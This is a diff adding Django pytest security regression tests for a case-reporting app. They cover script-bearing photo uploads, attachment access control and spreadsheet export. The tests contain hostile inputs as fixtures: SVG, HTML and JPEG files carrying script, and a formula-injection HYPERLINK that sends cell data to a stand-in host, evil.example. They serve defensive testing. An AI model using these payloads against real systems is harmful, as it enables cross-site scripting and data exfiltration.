@@ -1,0 +1,74 @@
+"""Security regressions of the cases app (issue 11). Each test failed before its fix."""
+
+import io
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+
+from gridgov.cases.models import Case, CaseAttachment
+from gridgov.core.testing import image_upload
+
+from .conftest import POINT
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/me/")</script></svg>'
+
+
+@pytest.fixture(autouse=True)
+def _media(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+
+
+def _report(client, **extra):
+    data = {"category": extra.pop("category"), "title": "路面塌陷", "lng": POINT[0], "lat": POINT[1],
+            "attr_depth": "deep"}
+    data.update(extra)
+    return client.post(reverse("cases:public_report"), data)
+
+
+@pytest.mark.parametrize("name,body", [("x.svg", SVG), ("x.html", b"<script>alert(1)</script>"),
+                                       ("x.jpg", b"\xff\xd8\xff\xe0<script>alert(1)</script>")])
+def test_anonymous_report_refuses_a_script_as_photo(client, category, tree, name, body):
+    # when an anonymous resident attaches a script as the photo
+    r = _report(client, category=category.pk, photos=[SimpleUploadedFile(name, body, content_type="image/svg+xml")])
+    # then the report is refused with a Chinese message and nothing is stored
+    assert r.status_code == 200
+    assert "不是有效的图片" in r.content.decode()
+    assert not CaseAttachment.objects.exists() and not Case.objects.exists()
+
+
+def test_anonymous_report_stores_a_reencoded_photo_under_a_random_name(client, category, tree):
+    r = _report(client, category=category.pk, photos=[image_upload("家门口.png", "PNG")])
+    assert r.status_code == 302
+    a = CaseAttachment.objects.get()
+    assert a.file.name.startswith(f"cases/") and a.file.name.endswith(".png") and "家门口" not in a.file.name
+
+
+def test_attachment_is_served_only_to_who_sees_the_case(client, new_case, photo, make_user, dispatcher, tree):
+    from gridgov.accounts.choices import RoleCode
+
+    case = new_case(photos=[photo()])
+    url = case.attachments.get().file.url
+    client.force_login(dispatcher)
+    assert client.get(url).status_code == 200
+    client.force_login(make_user(RoleCode.STREET_STAFF, tree["430702005000"]))  # the other street
+    assert client.get(url).status_code == 404
+    client.logout()
+    assert client.get(url).status_code == 404  # not published: no public access
+
+
+def test_evaluation_export_writes_no_live_formula(client, admin_user, new_case, walk, grid_worker):
+    # given a grid worker whose full name is a formula
+    from openpyxl import load_workbook
+
+    grid_worker.full_name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    grid_worker.save()
+    walk(new_case(), "closed")
+    client.force_login(admin_user)
+    # when the evaluation by grid worker is exported
+    r = client.get(reverse("cases:evaluation"), {"by": "worker", "format": "xlsx"})
+    # then no cell is a formula
+    ws = load_workbook(io.BytesIO(r.content)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
